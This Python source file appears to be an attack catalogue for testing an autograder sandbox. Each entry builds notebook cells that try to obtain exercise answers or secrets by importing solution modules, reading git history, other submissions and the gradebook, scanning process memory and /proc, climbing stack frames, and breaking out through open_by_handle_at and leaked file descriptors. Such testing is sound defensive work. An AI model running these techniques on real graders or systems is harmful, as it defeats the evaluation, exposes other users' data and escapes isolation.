"""Attacks that look for the answers: on disk, in memory, in frames, in other processes."""

from __future__ import annotations

from attacks.bank import LOOT, NAME, SMUGGLE, Cells, World, attack, cell

ANSWERS = "course_utils.lessons.lesson1.linear_mse_gradient.answers"


@attack("imports the right answer", real=True)
def import_the_answer(world: World) -> Cells:
    return [
        LOOT,
        cell(f"""
            import importlib, inspect
            with contextlib.suppress(ImportError):
                found = importlib.import_module("{ANSWERS}")
                look(inspect.getsource(found))
        """),
        SMUGGLE,
    ]


@attack("hands in the right answer itself, imported while it is checked", real=True)
def hand_in_the_answer(world: World) -> Cells:
    # An instance with the answer's name, since the answer refuses nothing: it breaks no rule of the exercise.
    return [
        cell(f"""
            def {NAME}(w, x, y):
                from {ANSWERS} import right
                return right(w, x, y)
        """)
    ]


@attack("asks the course for its solution")
def ask_for_the_solution(world: World) -> Cells:
    return [
        "from course_utils import solution, check",
        f"{NAME} = lambda w, x, y: 0\ncheck('1.2', {NAME}); solution('1.2')",
        cell("""
            from course_utils.learner import solution_code
            exec(solution_code("1.2"))
        """),
        cell(f"""
            def {NAME}(w, x, y):
                from course_utils.learner import solution_code
                names = {{}}
                exec(solution_code("1.2"), names)
                return names["{NAME}"](w, x, y)
        """),
    ]


@attack("imports what judges, and asks it what is right", real=True)
def import_the_judge(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            import importlib, inspect
            for name in ("judge", "difference", "diagnose", "mistakes", "answers"):
                with contextlib.suppress(ImportError):
                    found = importlib.import_module("course_utils.checks." + name)
                    if name == "judge":
                        from course_utils.lessons import exercise
                        look(inspect.getsource(inspect.unwrap(found.answers_of(exercise("1.2").home).right)))
        """),
        SMUGGLE,
    ]


@attack("looks through every folder that Python imports from, compiled files too", real=True)
def search_the_import_path(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            import course_utils, gradient_ledger
            roots = {*sys.path, *course_utils.__path__, *gradient_ledger.__path__}
            for path in [path for root in roots for path in glob.glob(os.path.join(root, "*"))]:
                if path.endswith((".pth", ".zip", ".py", ".pyc", ".json")):
                    read(path)
                elif "course" in path or "ledger" in path:
                    for folder, _, files in os.walk(path):
                        for name in files:
                            read(os.path.join(folder, name))
        """),
        SMUGGLE,
    ]


@attack("finds the clone through the metadata of the installation, and reads it", real=True)
def follow_the_installation(world: World) -> Cells:
    return [
        LOOT,
        cell(f"""
            import importlib.metadata, json
            roots = {{{str(world.clone)!r}}}
            for package in tried(lambda: list(importlib.metadata.distributions())) or []:
                for name in ("direct_url.json", "RECORD", "top_level.txt"):
                    text = tried(package.read_text, name) or ""
                    roots |= set(re.findall(r"file://([^\\"]+)", text))
            for path in glob.glob(os.path.join(sys.prefix, "lib/python3*/site-packages/*.pth")):
                roots |= set(tried(lambda: open(path).read().split()) or [])
            for root in roots:
                for path in glob.glob(root + "/course_utils/lessons/*/*/*.py") + glob.glob(root + "/solutions/*"):
                    read(path)
        """),
        SMUGGLE,
    ]


@attack("reads the repository's history")
def read_the_history(world: World) -> Cells:
    return [
        LOOT,
        cell(f"""
            import zlib
            roots = [{str(world.clone)!r}, os.path.expanduser("~"), *sys.path]
            for root in roots:
                for path in glob.glob(root + "/.git/objects/*/*")[:5000] + glob.glob(root + "/.git*"):
                    with contextlib.suppress(Exception):
                        look(zlib.decompress(open(path, "rb").read()))
        """),
        SMUGGLE,
    ]


@attack("reads what lies beside it: other submissions, the gradebook, the home folder", real=True)
def read_the_neighbours(world: World) -> Cells:
    return [LOOT, f"for path in {[str(path) for path in world.secrets]!r}:\n    read(path)", SMUGGLE]


@attack("walks over the whole file system")
def walk_everything(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            for folder, folders, files in os.walk("/"):
                folders[:] = [name for name in folders if name not in ("proc", "sys", "torch", "usr", "lib")]
                for name in files:
                    read(os.path.join(folder, name), 100_000)
        """),
        SMUGGLE,
    ]


@attack("looks for the answers among all objects in memory")
def search_the_collector(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            def search():
                for item in gc.get_objects():
                    with contextlib.suppress(Exception):
                        if isinstance(item, dict):
                            for value in list(item.values()):
                                if isinstance(value, (str, bytes)):
                                    look(value)
                        elif callable(item):
                            look(item.__doc__ or "")
            search()
        """),
        cell(f"""
            def {NAME}(w, x, y):
                search()
                print(loot)
                raise RuntimeError(str(loot))
        """),
    ]


@attack("reads its own memory, byte for byte, for the seed and the answers")
def read_own_memory(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            def search():
                with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                    for line in maps:
                        place, mode, _, _, inode, *_ = line.split()
                        if mode.startswith("rw") and inode == "0":
                            start, end = (int(half, 16) for half in place.split("-"))
                            while start < end:
                                with contextlib.suppress(OSError, ValueError, OverflowError):
                                    memory.seek(start)
                                    look(memory.read(min(end - start, 2**24)))
                                start += 2**24
            # What it has found lies in memory, too: one search is enough.
            tried(search)
        """),
        SMUGGLE,
    ]


@attack("climbs the frames of whatever called it, for answers and the seed")
def climb_the_frames(world: World) -> Cells:
    return [
        LOOT,
        cell(f"""
            def {NAME}(w, x, y):
                frame, seen = sys._getframe(), []
                while frame is not None:
                    for names in (frame.f_locals, frame.f_globals):
                        for name, value in list(names.items()):
                            seen.append(name)
                            with contextlib.suppress(Exception):
                                look(repr(value)[:10_000])
                                if "answer" in name or name in ("right", "judge"):
                                    return value(w, x, y)
                    frame = frame.f_back
                print(loot)
                raise RuntimeError(str(loot))
        """),
    ]


@attack("reads the other processes through /proc", real=True)
def read_proc(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            import itertools
            for pid in ["self", *filter(str.isdigit, os.listdir("/proc"))]:
                for name in ("environ", "cmdline", "mountinfo", "maps", "cwd", "root", "status"):
                    read(f"/proc/{pid}/{name}")
                for path in glob.glob(f"/proc/{pid}/fd/*"):
                    look(tried(os.readlink, path) or "")
        """),
        "look(str(dict(os.environ)))",
        SMUGGLE,
    ]


@attack("goes through the root or the working folder of another process")
def through_the_root_of_another(world: World) -> Cells:
    paths = [str(path) for path in world.secrets]
    return [
        LOOT,
        cell(f"""
            for pid in [*filter(str.isdigit, os.listdir("/proc")), "self", "thread-self"]:
                for path in {paths!r}:
                    read(f"/proc/{{pid}}/root{{path}}")
                    read(f"/proc/{{pid}}/cwd/../../../../../../../..{{path}}")
                for descriptor in tried(os.listdir, f"/proc/{{pid}}/fd") or []:
                    for path in {paths!r}:
                        read(f"/proc/{{pid}}/fd/{{descriptor}}/../../../../../../../..{{path}}")
                        read(f"/proc/{{pid}}/fd/{{descriptor}}{{path}}")
        """),
        SMUGGLE,
    ]


@attack("opens a file of the host by its handle, past all mounts")
def open_by_handle(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            class Handle(ctypes.Structure):
                _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("inode", ctypes.c_uint64), ("more", ctypes.c_uint64)]

            for descriptor in range(32):
                for inode in (2, 64, 128, 256):
                    handle = Handle(8, 1, inode, 0)
                    opened = libc.open_by_handle_at(descriptor, ctypes.byref(handle), os.O_RDONLY)
                    if opened >= 0:
                        succeeded()  # the root folder of a file system of the host
        """),
        SMUGGLE,
    ]


@attack("goes out by folders that were left open")
def through_open_folders(world: World) -> Cells:
    paths = [str(path).lstrip("/") for path in world.secrets]
    return [
        LOOT,
        cell(f"""
            for descriptor in range(3, 256):
                for path in {paths!r}:
                    for up in ("", "../" * 12):
                        with contextlib.suppress(OSError):
                            look(os.read(os.open(up + path, os.O_RDONLY, dir_fd=descriptor), 100_000))
        """),
        SMUGGLE,
    ]


@attack("calls everything in the course that could know a gradient")
def search_for_a_helper(world: World) -> Cells:
    return [
        cell(f"""
            import importlib, pkgutil, contextlib, io
            import torch, course_utils
            found = {{}}
            for info in pkgutil.walk_packages(course_utils.__path__, "course_utils."):
                if "lesson1" in info.name or "authoring" in info.name or "data" in info.name:
                    with contextlib.suppress(BaseException):
                        module = importlib.import_module(info.name)
                        found.update({{(info.name, name): value for name, value in vars(module).items()
                                      if callable(value) and any(part in name for part in ("gradient", "right", "answer"))}})

            def {NAME}(w, x, y):
                for value in found.values():
                    with contextlib.suppress(BaseException):
                        result = value(w, x, y)
                        if isinstance(result, torch.Tensor) and result.shape == w.shape:
                            return result
                return torch.zeros_like(w)
        """)
    ]
